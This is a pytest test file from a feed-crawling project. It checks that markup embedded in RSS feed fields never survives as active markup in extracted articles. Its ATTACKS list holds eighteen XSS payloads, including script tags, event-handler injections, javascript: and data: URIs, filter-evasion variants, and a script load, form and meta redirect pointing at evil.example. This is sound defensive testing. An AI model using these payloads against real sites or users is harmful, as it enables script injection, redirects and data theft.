"""Feeds are read without feedparser's sanitizing and link resolving, so nothing that a feed writes as markup may come out as such."""

# ruff: noqa: E501 - markup
from __future__ import annotations

import dataclasses
from html import escape
from typing import Any

import pytest

import cleaning
from cleaning.model import Hints
from copydesk.stages.poll_rules import entry_hints
from crawlers.feeds import parse
from crawlers.feeds.reading import ACTIVE

URL = "http://paper.example/feed"
STORY = "The harbour of the town has been open to ships of every size since early on Monday morning, its master said. "
PAGE = f"<!doctype html><html><head><title>Harbour opens</title></head><body><article><h1>Harbour opens</h1>{''.join(f'<p>{STORY} {n}</p>' for n in range(8))}" \
       "</article></body></html>"  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>harbour</a>", "<iframe src='javascript:alert(1)'></iframe>", "<style>@import 'evil';</style>",
    "<body onload=alert(1)>", "<math><mtext></mtext><script>alert(1)</script></math>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>", "<!--<img src='--><img src=x onerror=alert(1)//'>", "<object data='evil.swf'></object>",
    "<form action='http://evil.example/'><input name=q></form>", "<a href='data:text/html,<script>alert(1)</script>'>harbour</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip


def _item(attack: str) -> str:
    """The attack wherever a feed may write markup, within texts that are the page's own."""
    said = escape(f"{STORY}{attack}{STORY}")
    return (
        "<rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/' xmlns:dc='http://purl.org/dc/elements/1.1/'><channel>"
        f"<title>{escape('The Paper' + attack)}</title><description>{said}</description><copyright>{said}</copyright><item>"
        f"<title>{escape('Harbour opens' + attack)}</title><link>http://paper.example/a</link><dc:creator>{escape('Ada' + attack)}</dc:creator>"
        f"<description>{said}</description><content:encoded>{said * 4}</content:encoded></item></channel></rss>"
    )


def _strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for inner in value.values() for text in _strings(inner)]
    if isinstance(value, list | tuple):
        return [text for inner in value for text in _strings(inner)]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "page", [PAGE, "<html><body><p>Nothing here.</p></body></html>"], ids=["a page", "a page that says nothing"]
)
def test_no_markup_of_a_feed_comes_out_in_an_article(page: str, attack: str) -> None:
    document = parse(_item(attack).encode(), URL)
    [entry] = document.entries
    extraction = cleaning.extract(page.encode(), "http://paper.example/a", "text/html", Hints(**entry_hints(entry, document)), 200)
    assert attack.startswith("&lt;") or not any("alert(1)" in block.text for block in extraction.blocks)
    for text in _strings(dataclasses.asdict(extraction)):
        assert not ACTIVE.search(text)
        assert not text.lower().startswith(("javascript:", "data:"))
